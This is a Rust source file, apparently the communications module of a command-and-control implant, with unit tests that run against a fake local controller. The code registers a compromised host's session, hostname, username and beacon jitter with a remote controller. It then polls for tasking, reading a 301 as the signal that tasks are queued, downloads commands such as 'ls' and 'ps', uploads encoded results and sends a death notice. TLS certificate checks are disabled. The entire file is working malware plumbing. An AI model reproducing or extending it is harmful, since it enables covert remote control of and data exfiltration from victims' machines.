//! HTTP contract with the controller.
//!
//! Every call is a single request with a bounded timeout. Nothing is retried
//! here; retry policy belongs to the scheduler.

use anyhow::{Context, Result};
use async_trait::async_trait;
use reqwest::StatusCode;
use std::time::Duration;
use tracing::debug;

use crate::core::identity::Identity;
use crate::core::shipper::TaskResult;
use crate::core::tasks::Task;

/// What a check-in told us.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CheckIn {
    /// 200: nothing queued.
    Idle,
    /// 301: a batch is waiting at `/tasks/{session}`.
    TaskingPending,
    Unexpected(u16),
}

impl CheckIn {
    pub fn from_status(status: u16) -> Self {
        match status {
            200 => Self::Idle,
            301 => Self::TaskingPending,
            other => Self::Unexpected(other),
        }
    }
}

#[async_trait]
pub trait Controller: Send + Sync {
    async fn register(&self, identity: &Identity) -> Result<()>;
    async fn check_in(&self, session: &str) -> Result<CheckIn>;
    async fn fetch_tasking(&self, session: &str) -> Result<Vec<Task>>;
    async fn post_result(&self, result: &TaskResult) -> Result<()>;
    async fn death_notice(&self, session: &str) -> Result<()>;
}

pub struct HttpController {
    client: reqwest::Client,
    base_url: String,
}

impl HttpController {
    /// Certificate verification is disabled: the controller serves a
    /// self-signed certificate. Redirects are never followed because a 301 on
    /// check-in is the tasking signal itself.
    pub fn new(base_url: &str, timeout: Duration) -> Result<Self> {
        let client = reqwest::Client::builder()
            .timeout(timeout)
            .danger_accept_invalid_certs(true)
            .redirect(reqwest::redirect::Policy::none())
            .pool_max_idle_per_host(0)
            .build()
            .context("Failed to build HTTP client")?;
        Ok(Self {
            client,
            base_url: base_url.trim_end_matches('/').to_string(),
        })
    }

    fn url(&self, path: &str) -> String {
        format!("{}{}", self.base_url, path)
    }
}

#[async_trait]
impl Controller for HttpController {
    async fn register(&self, identity: &Identity) -> Result<()> {
        let resp = self
            .client
            .post(self.url("/implants/"))
            .json(identity)
            .send()
            .await
            .context("Registration request failed")?
            .error_for_status()
            .context("Controller rejected registration")?;
        let _ = resp.bytes().await;
        Ok(())
    }

    async fn check_in(&self, session: &str) -> Result<CheckIn> {
        let resp = self
            .client
            .get(self.url(&format!("/health/{session}")))
            .send()
            .await
            .context("Check-in request failed")?;
        let status = resp.status().as_u16();
        let _ = resp.bytes().await;
        debug!("Check-in returned {}", status);
        Ok(CheckIn::from_status(status))
    }

    async fn fetch_tasking(&self, session: &str) -> Result<Vec<Task>> {
        let body = self
            .client
            .get(self.url(&format!("/tasks/{session}")))
            .send()
            .await
            .context("Tasking request failed")?
            .error_for_status()
            .context("Controller refused tasking request")?
            .bytes()
            .await
            .context("Failed to read tasking body")?;
        serde_json::from_slice(&body).context("Malformed tasking batch")
    }

    async fn post_result(&self, result: &TaskResult) -> Result<()> {
        let resp = self
            .client
            .post(self.url(&format!("/results/{}", result.session)))
            .json(result)
            .send()
            .await
            .context("Result upload failed")?;
        let status = resp.status();
        let _ = resp.bytes().await;
        if status != StatusCode::OK {
            debug!("Result for task {} answered {}", result.tasking_id, status);
        }
        Ok(())
    }

    async fn death_notice(&self, session: &str) -> Result<()> {
        let resp = self
            .client
            .get(self.url(&format!("/health/d/{session}")))
            .send()
            .await
            .context("Death notice failed")?;
        let _ = resp.bytes().await;
        Ok(())
    }
}


#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::wire;
    use axum::Router;
    use axum::extract::{Path, State};
    use axum::http::{StatusCode as AxumStatus, header};
    use axum::response::{IntoResponse, Response};
    use axum::routing::{get, post};
    use axum::Json;
    use serde_json::Value;
    use std::sync::{Arc, Mutex};

    #[derive(Clone, Default)]
    struct Seen {
        bodies: Arc<Mutex<Vec<(String, Value)>>>,
        deaths: Arc<Mutex<Vec<String>>>,
    }

    async fn health(Path(session): Path<String>) -> Response {
        match session.as_str() {
            "idle" => (AxumStatus::OK, "{}").into_response(),
            "busy" => (
                AxumStatus::MOVED_PERMANENTLY,
                [(header::LOCATION, "/tasks/busy")],
            )
                .into_response(),
            _ => AxumStatus::NOT_FOUND.into_response(),
        }
    }

    async fn tasks(Path(session): Path<String>) -> Response {
        match session.as_str() {
            "busy" => Json(serde_json::json!([
                {"id": 1, "session": "busy", "date": "now", "task": "ls", "args": "/tmp", "complete": "False"},
                {"id": 2, "session": "busy", "task": "ps", "args": ""}
            ]))
            .into_response(),
            _ => (AxumStatus::OK, "not json").into_response(),
        }
    }

    async fn results(
        State(seen): State<Seen>,
        Path(session): Path<String>,
        Json(body): Json<Value>,
    ) -> AxumStatus {
        seen.bodies.lock().unwrap().push((session, body));
        AxumStatus::OK
    }

    async fn implants(State(seen): State<Seen>, Json(body): Json<Value>) -> AxumStatus {
        seen.bodies.lock().unwrap().push(("implants".into(), body));
        AxumStatus::OK
    }

    async fn death(State(seen): State<Seen>, Path(session): Path<String>) -> AxumStatus {
        seen.deaths.lock().unwrap().push(session);
        AxumStatus::OK
    }

    async fn spawn_fake_controller() -> (String, Seen) {
        let seen = Seen::default();
        let app = Router::new()
            .route("/implants/", post(implants))
            .route("/health/d/{session}", get(death))
            .route("/health/{session}", get(health))
            .route("/tasks/{session}", get(tasks))
            .route("/results/{session}", post(results))
            .with_state(seen.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });
        (format!("http://{addr}/"), seen)
    }

    fn client(base: &str) -> HttpController {
        HttpController::new(base, Duration::from_secs(5)).unwrap()
    }

    #[test]
    fn status_mapping() {
        assert_eq!(CheckIn::from_status(200), CheckIn::Idle);
        assert_eq!(CheckIn::from_status(301), CheckIn::TaskingPending);
        assert_eq!(CheckIn::from_status(302), CheckIn::Unexpected(302));
        assert_eq!(CheckIn::from_status(404), CheckIn::Unexpected(404));
    }

    #[tokio::test]
    async fn check_in_does_not_follow_redirects() {
        let (base, _) = spawn_fake_controller().await;
        let c = client(&base);
        assert_eq!(c.check_in("idle").await.unwrap(), CheckIn::Idle);
        assert_eq!(c.check_in("busy").await.unwrap(), CheckIn::TaskingPending);
        assert_eq!(c.check_in("ghost").await.unwrap(), CheckIn::Unexpected(404));
    }

    #[tokio::test]
    async fn check_in_transport_failure_is_an_error() {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        drop(listener);
        let c = HttpController::new(&format!("http://{addr}"), Duration::from_secs(2)).unwrap();
        assert!(c.check_in("idle").await.is_err());
    }

    #[tokio::test]
    async fn fetch_tasking_decodes_batch_in_order() {
        let (base, _) = spawn_fake_controller().await;
        let batch = client(&base).fetch_tasking("busy").await.unwrap();
        assert_eq!(batch.len(), 2);
        assert_eq!(batch[0], Task::new(1, "busy", "ls", "/tmp"));
        assert_eq!(batch[1].kind, "ps");
    }

    #[tokio::test]
    async fn fetch_tasking_rejects_malformed_json() {
        let (base, _) = spawn_fake_controller().await;
        let err = client(&base).fetch_tasking("garbled").await.unwrap_err();
        assert!(format!("{err:#}").contains("Malformed tasking batch"));
    }

    #[tokio::test]
    async fn post_result_and_register_send_json_bodies() {
        let (base, seen) = spawn_fake_controller().await;
        let c = client(&base);
        let identity = Identity {
            session: "cafef00d".into(),
            hostname: "h".into(),
            username: "u".into(),
            callback_freq: 1,
            jitter: 15,
        };
        c.register(&identity).await.unwrap();

        let task = Task::new(9, "cafef00d", "ls", "/");
        let result = TaskResult::new(&task, wire::encode("out"));
        c.post_result(&result).await.unwrap();

        let bodies = seen.bodies.lock().unwrap().clone();
        assert_eq!(bodies[0].0, "implants");
        assert_eq!(bodies[0].1["session"], "cafef00d");
        assert_eq!(bodies[1].0, "cafef00d");
        assert_eq!(bodies[1].1["tasking_id"], 9);
        assert_eq!(bodies[1].1["task"], "ls");
        assert_eq!(bodies[1].1["args"], wire::encode("/"));
        assert_eq!(bodies[1].1["results"], wire::encode("out"));
    }

    #[tokio::test]
    async fn death_notice_hits_dedicated_endpoint() {
        let (base, seen) = spawn_fake_controller().await;
        client(&base).death_notice("cafef00d").await.unwrap();
        assert_eq!(seen.deaths.lock().unwrap().clone(), vec!["cafef00d".to_string()]);
    }
}
